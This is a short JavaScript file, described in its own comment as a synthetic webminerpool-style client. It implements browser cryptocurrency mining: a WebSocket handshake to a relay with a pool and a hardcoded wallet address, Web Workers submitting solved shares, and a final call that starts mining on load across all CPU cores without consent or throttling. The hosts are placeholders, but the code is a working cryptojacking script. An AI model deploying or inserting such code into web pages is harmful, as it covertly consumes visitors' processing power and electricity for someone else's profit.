// Synthetic webminerpool-style client: globals, a handshake with pool and wallet, solved shares.
var server = "wss://relay.example.test:8181/";
var job = null, workers = [], ws, receiveStack = [], sendStack = [];
var totalhashes = 0, connected = 0, throttleMiner = 0, handshake = null;

function addWorker() {
  var w = new Worker("miner-worker.js");
  workers.push(w);
  w.onmessage = function (e) {
    if (e.data === "hash") { totalhashes++; return; }
    ws.send(JSON.stringify({ identifier: "solved", job_id: e.data.job_id, nonce: e.data.nonce, result: e.data.result }));
  };
}

function startMining(pool, login, password, numThreads) {
  handshake = { identifier: "handshake", pool: pool, login: login, password: password || "", userid: "", version: 7 };
  ws = new WebSocket(server);
  ws.onopen = function () { ws.send(JSON.stringify(handshake)); connected = 1; };
  ws.onmessage = function (e) {
    var obj = JSON.parse(e.data);
    if (obj.identifier === "job") { job = obj; workers.forEach(function (w) { w.postMessage(job); }); }
    else if (obj.identifier === "hashsolved") { receiveStack.push(obj); }
  };
  for (var i = 0; i < (numThreads > 0 ? numThreads : navigator.hardwareConcurrency); i++) addWorker();
}

function stopMining() { workers.forEach(function (w) { w.terminate(); }); workers = []; if (ws) ws.close(); }

startMining("pool.example.test", "4AMASi45ub7Qe4ZE36UT5G6cU4ud8Fhhe4deS4F3cw9KTAb8dLcukC7edhDQ7cn5d4gEYkbUrMWeWQLGsCmrG6dLaYyNoVK", "", -1);
